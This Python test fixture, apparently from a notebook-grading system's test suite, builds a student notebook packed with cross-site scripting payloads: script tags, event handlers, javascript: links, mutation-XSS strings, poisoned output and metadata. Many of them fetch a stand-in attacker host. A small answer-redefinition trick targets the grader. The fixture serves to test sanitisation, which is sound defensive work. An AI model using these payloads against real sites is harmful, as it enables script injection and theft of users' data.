"""What a hostile student puts into a notebook, so that it runs in the browser of whoever opens the page made from it.

Each payload sets `window.PWNED` or asks for an address on `EVIL`.
"""

from __future__ import annotations

from typing import Any

import nbformat

from tests.gradebook.course_folder import Hand

EVIL = "evil.example"
STEP = f"window.PWNED=1;fetch('https://{EVIL}/stolen')"
HTML = (
    f"<script>{STEP}</script>",
    f"<SCRIPT SRC=//{EVIL}/x.js></SCRIPT>",
    f'<img src=x onerror="{STEP}">',
    f'<svg onload="{STEP}"><script>{STEP}</script></svg>',
    f'<svg><animate onbegin="{STEP}" attributeName=x dur=1s></svg>',
    f'<details open ontoggle="{STEP}"><summary>open</summary></details>',
    f'<a href="javascript:{STEP}">click</a>',
    f'<a href="JaVa&#10;ScRiPt:{STEP}">click</a>',
    '<iframe srcdoc="<script>parent.PWNED=1</script>"></iframe>',
    f'<iframe src="javascript:{STEP}"></iframe>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={STEP}&gt;">',
    f'<form action="javascript:{STEP}"><button>send</button><input autofocus onfocus="{STEP}"></form>',
    f'<base href="https://{EVIL}/"><meta http-equiv="refresh" content="0;url=https://{EVIL}/">',
    f'<object data="data:text/html,<script>{STEP}</script>"></object><embed src="data:text/html,x">',
    f'<link rel=stylesheet href="https://{EVIL}/x.css"><style>@import "https://{EVIL}/y.css";</style>',
    f'<div style="background:url(https://{EVIL}/z.png);behavior:url(#x)">styled</div>',
    f'<img src="https://{EVIL}/pixel.png">',
    f"</pre></div></body></html><script>{STEP}</script>",
    f'<noscript><p title="</noscript><img src=x onerror={STEP}>">',
    f'<div id="x" onmouseover="{STEP}" onclick="{STEP}">hover</div>',
)
MARKDOWN = (
    *HTML,
    f"[click](javascript:{STEP})",
    f"[click](<javascript:{STEP}>)",
    f"[click][there]\n\n[there]: javascript:{STEP}",
    f"[there2]\n\n[there2]: JAVASCRIPT:{STEP} 'title'",
    f"<javascript:{STEP}>",
    f"[click](&#106;avascript:{STEP})",
    f"[click](java&Tab;script:{STEP})",
    f"[click](\\javascript:{STEP})",
    f"[click](\x01javascript:{STEP})",
    f"[click](vbscript:{STEP}) [click](data:text/html;base64,PHNjcmlwdD4=)",
    f'![x](x.png "a\\" onerror=\\"{STEP}")',
    f'```python" onload="{STEP}\nx\n```',
    f'```mermaid\ngraph TD; A["<img src=x onerror={STEP}>"]\n```',
    f'# A heading"><img src=x onerror="{STEP}">',
    f"$\\href{{javascript:{STEP}}}{{x}}$ and $$<img src=x onerror={STEP}>$$",
    f"`<script>{STEP}</script>` and \\<script>{STEP}</script>",
    "![gone](attachment:gone.png) ![gone](<attachment:gone too.png>) ![gone][ref]\n\n[ref]: attachment:third.png",
    "![gone](attachment:gone%20four.png) ![gone](&#97;ttachment:five.png) ![gone](attachment\\:six.png)",
)
OTHER_MIMES = {
    "image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{STEP}"><script>{STEP}</script></svg>',
    "application/javascript": STEP,
    "application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2, "version_minor": 0},
    "application/pdf": "JVBERi0=",
    "text/latex": HTML[0] + f"$\\href{{javascript:{STEP}}}{{x}}$",
    "text/vnd.mermaid": HTML[2],
}
PICTURE = f"""display({{"image/png": 'AAAA" onerror="{STEP}', "text/plain": "p"}}, raw=True, metadata={{"image/png": {{
    "width": '1 onload="{STEP}"', "height": 2, "alt": '"><img src=x onerror="{STEP}">', "unconfined": True}}}})"""
PRINTED = f"""import sys
for text in {HTML[:3]!r}:
    print(text)
    print("\\x1b[31m" + text + "\\x1b[0m \\x1b]8;;javascript:{STEP}\\x07link\\x1b]8;;\\x07", file=sys.stderr)"""
RAISED = f"raise type({HTML[2]!r}, (Exception,), {{}})({HTML[0]!r})"


def hostile(hand: Hand) -> Any:
    """A student's notebook with payloads wherever there is room for one."""
    code = ["from IPython.display import display", PRINTED, RAISED, PICTURE]
    code += [f'display({{"text/html": {text!r}}}, raw=True)' for text in HTML]
    code += [f'display({{"text/html": {HTML[0]!r}}}, raw=True, metadata={{"text/html": {{"isolated": True}}}})']
    code += [f'display({{"text/markdown": {text!r}}}, raw=True)' for text in MARKDOWN]
    code += [f"display({{{mime!r}: {content!r}}}, raw=True)" for mime, content in OTHER_MIMES.items()]
    code += [f"%%html\n{HTML[0]}", f"%%javascript\n{STEP}", f"# {HTML[0]}"]
    for source in code:
        hand.insert_before("relu", source)
    for text in MARKDOWN:
        hand.insert_cell_before("relu", nbformat.v4.new_markdown_cell(text))
        hand.insert_cell_before("relu", nbformat.v4.new_raw_cell(text, metadata={"raw_mimetype": "text/html"}))
        hand.insert_cell_before("relu", nbformat.v4.new_raw_cell(text))
    attached = nbformat.v4.new_markdown_cell("![a](attachment:a.png) ![b](attachment:b.svg)")
    attached["attachments"] = {
        "a.png": {"image/png": f'AAAA" onerror="{STEP}'},
        "b.svg": {"image/svg+xml": OTHER_MIMES["image/svg+xml"]},
    }
    hand.insert_cell_before("relu", attached)
    hand.solve("open_question", "\n\n".join(MARKDOWN))
    hand.solve("relu", f"def relu(x):\n    return {HTML[0]!r}")
    hand.solve("flip_kernel", f"def flip_kernel(kernel):\n    {RAISED}")
    hand.solve("convolve2d", hand["convolve2d"].source + "\nright = convolve2d\n" + FLIPPED)
    _poison_metadata(hand.notebook)
    return hand.notebook


FLIPPED = "def convolve2d(image, kernel):\n    return right(image, kernel[::-1, ::-1])"


def _poison_metadata(notebook: Any) -> None:
    breakout = f'"></title></pre></script><script>{STEP}</script>'
    notebook.metadata = nbformat.from_dict(
        {
            "title": breakout,
            "authors": [{"name": breakout}],
            "kernelspec": {"name": "python3", "display_name": breakout, "language": breakout},
            "language_info": {"name": breakout, "mimetype": breakout, "pygments_lexer": breakout},
            "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"x": breakout}}},
            "celltoolbar": breakout,
        }
    )
    for cell in notebook.cells:
        cell.metadata["tags"] = [breakout]
        cell.metadata["name"] = cell.metadata["alt"] = breakout
        if "nbgrader" not in cell.metadata:
            cell.metadata["nbgrader"] = {"grade": True, "solution": True, "points": breakout, "comment": breakout}
            cell.metadata["nbgrader"] |= {"grade_id": f"own {breakout}", "schema_version": 3, "locked": False}
